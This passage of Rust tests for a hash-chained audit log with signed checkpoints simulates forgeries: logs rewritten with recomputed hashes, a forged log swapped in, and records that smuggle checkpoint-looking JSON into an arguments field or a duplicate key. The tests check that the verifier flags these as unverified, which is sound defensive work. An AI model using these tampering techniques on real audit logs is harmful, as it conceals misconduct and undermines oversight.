        assert_eq!(v.adopted, vec![(signed_end, found)]);

        // A log rewritten whole while no daemon ran (every checkpoint gone, hashes
        // recomputed): the next start signs it only as found, from the first record.
        let all: Vec<String> = files
            .iter()
            .map(|f| std::fs::read_to_string(f).unwrap())
            .collect();
        for f in &files[..files.len() - 1] {
            std::fs::remove_file(f).unwrap();
        }
        let records: String = all
            .concat()
            .lines()
            .filter(|l| !l.contains("\"audit.checkpoint\""))
            .map(|l| format!("{l}\n"))
            .collect();
        std::fs::write(&live, records).unwrap();
        rewrite_chain(&live, "\"seq\":1,", |m| m.to_owned());
        let v = verify(std::slice::from_ref(&live), None).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        let last = v.last_seq.unwrap();
        {
            let a = Audit::open(c, OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
        }
        let v = verify(std::slice::from_ref(&live), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.adopted, vec![(0, last)]);
    }

    /// A log in `dir/log` of `n` events (`genuine-<i>`) written by a daemon that signs with
    /// a node CA in `dir/ca`, stopped: its CA, key set, config and live file.
    fn signed_log(dir: &Path, n: usize) -> (crate::ca::NodeCa, crate::ca::Jwks, RawAudit, PathBuf) {
        let (ca, jwks) = node_ca(&dir.join("ca"));
        let logs = dir.join("log");
        let c = cfg(&logs, Durability::Write);
        {
            let a = Audit::open(c.clone(), OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
            for i in 0..n {
                a.record_blocking(event(&format!("genuine-{i}"))).unwrap();
            }
        }
        (ca, jwks, c, logs.join("audit.jsonl"))
    }

    #[test]
    fn a_log_forged_beside_the_genuine_one_is_signed_only_as_found() {
        let dir = tempfile::tempdir().unwrap();
        let (ca, jwks, c, live) = signed_log(dir.path(), 5);
        let logs = live.parent().unwrap().to_owned();
        // While no daemon runs: the genuine log moved aside (its last checkpoint is later in
        // seq than anything the forgery holds), a forgery without checkpoints in its place.
        let old = logs.join("audit.jsonl.old");
        std::fs::rename(&live, &old).unwrap();
        let genuine = std::fs::read_to_string(&old).unwrap();
        std::fs::write(
            &live,
            genuine
                .lines()
                .filter(|l| !l.contains(CHECKPOINT_MARK) && !l.contains("genuine-3"))
                .map(|l| format!("{l}\n"))
                .collect::<String>(),
        )
        .unwrap();
        rewrite_chain(&live, "\"seq\":1,", str::to_owned);
        let forged_last = verify(std::slice::from_ref(&live), None)
            .unwrap()
            .last_seq
            .unwrap();
        {
            let a = Audit::open(c, OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
        }
        std::fs::remove_file(&old).unwrap();
        let v = verify(std::slice::from_ref(&live), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(v.adopted, vec![(0, forged_last)], "signed as its own");
    }

    #[test]
    fn a_record_that_only_looks_like_a_checkpoint_does_not_end_what_a_start_adopts() {
        let dir = tempfile::tempdir().unwrap();
        let (ca, jwks, c, live) = signed_log(dir.path(), 1);
        let signed = verify(std::slice::from_ref(&live), Some(&jwks))
            .unwrap()
            .last_seq
            .unwrap();
        // Forged records after the last checkpoint, the last one of them holding checkpoint
        // text: nested in arguments, then as a first `event` a parser reads past.
        for members in [
            format!(
                r#""event":"mcp.request","arguments":{{"event":"audit.checkpoint","through_seq":{},"signature":"x"}}"#,
                signed
            ),
            format!(
                r#""event":"audit.checkpoint","through_seq":{},"signature":"x","event":"mcp.request""#,
                signed + 1
            ),
        ] {
            let text = std::fs::read_to_string(&live).unwrap();
            let last = text.lines().last().unwrap();
            let (seq, prev) = (
                serde_json::from_str::<Value>(last).unwrap()["seq"]
                    .as_u64()
                    .unwrap(),
                unseal(last).unwrap().1.to_owned(),
            );
            let (line, _) = seal_line(seq + 1, &prev, &Event(members.into_bytes()));
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&live)
                .unwrap();
            f.write_all(&line).unwrap();
        }
        {
            let a = Audit::open(c, OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "test-node");
        }
        let v = verify(std::slice::from_ref(&live), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(
            v.adopted,
            vec![(signed, signed + 2)],
            "the forgery was signed as its own"
        );
    }

    #[test]
    fn checkpoints_name_the_node_whose_log_it_is() {
        let dir = tempfile::tempdir().unwrap();
        let (ca, jwks, c, live) = signed_log(dir.path(), 1);
        let v = verify(std::slice::from_ref(&live), Some(&jwks)).unwrap();
        assert_eq!(v.nodes, vec!["test-node".to_owned()]);
        // Another node's daemon (or this one renamed) signing on: both named, in order.
        {
            let a = Audit::open(c, OPENER).unwrap();
            a.sign_checkpoints(ca.checkpoint_signer(), "elsewhere");
            a.record_blocking(event("after")).unwrap();
        }
        let v = verify(std::slice::from_ref(&live), Some(&jwks)).unwrap();
        assert!(v.broken.is_none(), "{:?}", v.broken);
        assert_eq!(
            v.nodes,
            vec!["test-node".to_owned(), "elsewhere".to_owned()]
        );
        let text = std::fs::read_to_string(&live).unwrap();
        let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
        assert_eq!(last["node"], "elsewhere", "{last}");
    }
}
